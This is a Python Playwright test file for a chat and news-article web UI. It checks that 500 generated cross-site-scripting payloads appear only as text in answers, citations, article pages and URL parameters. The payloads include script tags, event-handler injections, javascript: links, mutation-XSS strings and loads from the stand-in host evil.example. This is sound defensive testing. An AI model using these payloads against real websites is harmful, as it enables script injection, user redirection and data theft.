"""Hostile text everywhere it can come from, and an answer that takes its time."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import replace
from itertools import islice, product
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.chat import Chat
from tests.browser.serving import running
from tests.servers import free_port
from tests.ui.samples import FIRST, FOUND, REFUSED
from ui.answering import Answerer
from ui.flight import Piece
from ui.question import Asked
from ui.settings import Settings

# Gradio's own, from its queue's statistics: pandas 3 deprecated two things that it still uses.
pytestmark = pytest.mark.filterwarnings("ignore:('future.no_silent_downcasting'|The copy keyword is)")

ACT = "document.title='pwned'"
TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "details open",
    "input autofocus",
    "math",
    "a",
    "style",
    "p style=x",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onbegin", "onpageshow")
OPENINGS = ("", '">', "'>", "</mark></p>", "</script>", "-->")
WHOLE = (
    f"<script>{ACT}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=//evil.example/x.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example/></iframe>",
    f'<a href="javascript:{ACT}">x</a>',
    f"[x](javascript:{ACT})",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"${{{ACT}}}",
    f"{{{{{ACT}}}}}",
    "<form action=//evil.example/><button>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u202e<b>\u2066x",
)


def payloads(most: int = 500) -> list[str]:
    """Different strings that would act if anything here were taken for markup."""
    mixed = (f"{o}<{t} {e}={ACT}>" for o, t, e in product(OPENINGS, TAGS, EVENTS))
    return [f"{text} #{n}" for n, text in enumerate(islice((*WHOLE, *mixed), most))]


HOSTILE = payloads()
assert len(set(HOSTILE)) == 500
TURNS = 5


def hostile_answer(asked: Asked) -> Iterator[Piece]:
    """A hundred payloads an answer: as text, title, publisher, quote, address and unit."""
    n = int(asked.question.partition(" ")[0])
    mine = HOSTILE[n * 100 : (n + 1) * 100]
    yield mine[0]
    citation = FOUND.citations[0]
    citations = tuple(
        replace(
            citation, number=i, title=a, publisher=b, quote=c, context=f"{c} {d}", context_start=0,
            start=0, end=len(c), marks=((0, 4),), url=f"javascript:{ACT}" if i % 2 else f"https://x.example/{a}",
        )
        for i, (a, b, c, d) in enumerate(zip(*[iter(mine)] * 4, strict=True), 1)
    )  # fmt: skip
    timeline = tuple(replace(f, unit=mine[f.citation]) for f in FOUND.timeline)
    yield replace(
        FOUND, question=asked.question, text="\n".join([*mine[:10], "[1]"]), short=mine[3],
        citations=citations, timeline=timeline,
    )  # fmt: skip


def hostile_articles() -> list[object]:
    """Every payload as an article's title, publisher, text and author."""
    return [
        replace(
            FIRST, id=f"h{n:03}", title=text, publisher=text, author=text, text=f"{text}\n\n{text}", url=text
        )
        for n, text in enumerate(HOSTILE)
    ]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    from ui.server import create_app

    home = tmp_path_factory.mktemp("hostile")
    settings = Settings(home, home, rate="100000/minute")
    articles = tuple(hostile_articles())
    answerer = Answerer(hostile_answer, lambda: articles)  # type: ignore[arg-type,return-value]
    with running(create_app(settings, answerer), free_port()) as url:
        yield url


def shown(page: Page) -> str:
    """All text of the page, with blanks as one space."""
    text: str = page.evaluate("document.body.textContent")
    return " ".join(text.split())


def assert_all_shown(page: Page, texts: list[str]) -> None:
    text = shown(page)
    assert [payload for payload in texts if " ".join(payload.split()) not in text] == []


def test_questions_and_answers_are_shown_as_text(page: Page, hostile: str) -> None:
    chat = Chat(page, hostile).open()
    for n in range(TURNS):
        question = f"{n} " + " ".join(HOSTILE[n * 15 : (n + 1) * 15])[:1900]
        turn = chat.ask(question)
        assert " ".join(question.split()) in " ".join((turn.locator(".asked").text_content() or "").split())
        assert_all_shown(page, HOSTILE[n * 100 : (n + 1) * 100])
    # What a press would do: every link and button of the last answer keeps to our site.
    hrefs = page.locator("#desk a").evaluate_all("nodes => nodes.map(n => n.getAttribute('href'))")
    assert all(href.startswith(("#", "?", "answers/", "articles/", "https://x.example/")) for href in hrefs)
    assert page.title() != "pwned"
    chat.open()  # from the browser's storage, again as text
    chat.finished(TURNS - 1)
    assert_all_shown(page, HOSTILE[(TURNS - 1) * 100 :])
    assert page.title() != "pwned"


def test_articles_are_shown_as_text(page: Page, hostile: str) -> None:
    for n in range(1, 18):
        page.goto(f"{hostile}articles?page={n}&sort=outlet")
        assert page.title() != "pwned"
        items = page.locator(".list a").evaluate_all("nodes => nodes.map(n => n.textContent)")
        assert items
        assert all(any(" ".join(p.split()) == " ".join(item.split()) for p in HOSTILE) for item in items)
    for n in range(0, 500, 25):
        page.goto(f"{hostile}articles/h{n:03}?start=0&end={len(HOSTILE[n])}#quote")
        assert page.title() != "pwned"
        assert_all_shown(page, [HOSTILE[n]])


def test_a_hostile_address_is_shown_as_text(page: Page, hostile: str) -> None:
    for text in HOSTILE[:16]:
        page.goto(
            f"{hostile}articles?{page.evaluate('t => new URLSearchParams({q: t, outlet: t, from: t}).toString()', text)}"
        )
        assert page.locator("input[name=q]").input_value() == "".join(
            c for c in text if c not in "\u202e\u2066"
        )
        assert page.title() != "pwned"


@pytest.fixture
def slow(tmp_path: Path) -> Iterator[tuple[str, threading.Event]]:
    """A site whose answer, like a language model's, waits between words; the event lets it go on."""
    from ui.server import create_app

    go_on = threading.Event()

    def streams(asked: Asked) -> Iterator[Piece]:
        yield "Những lời "
        yield "đầu tiên "
        go_on.wait(20)
        yield replace(REFUSED, question=asked.question)

    answerer = Answerer(streams, lambda: (FIRST,))
    settings = Settings(tmp_path, tmp_path, rate="100000/minute")
    with running(create_app(settings, answerer), free_port()) as url:
        go_on.set()  # the examples are asked as the page opens
        yield url, go_on


def test_words_are_read_as_they_come_and_stop_stops(page: Page, slow: tuple[str, threading.Event]) -> None:
    url, go_on = slow
    chat = Chat(page, url).open()
    go_on.clear()
    chat.box.fill("Một câu hỏi chậm?")
    chat.box.press("Enter")
    expect(chat.turn(0).locator(".answer")).to_contain_text("Những lời đầu tiên")
    expect(page.get_by_role("log")).to_have_attribute("aria-busy", "true")
    page.locator("#stop").click()
    expect(chat.turn(0).locator(".answer")).to_contain_text("Đã dừng.")
    expect(page.locator("#send")).to_be_visible()
    go_on.set()
    chat.box.fill("Câu khác?")
    chat.box.press("Enter")
    expect(chat.finished(1).locator(".refused")).to_be_visible()
    expect(chat.turn(0).locator(".answer")).to_contain_text("Những lời đầu tiên")
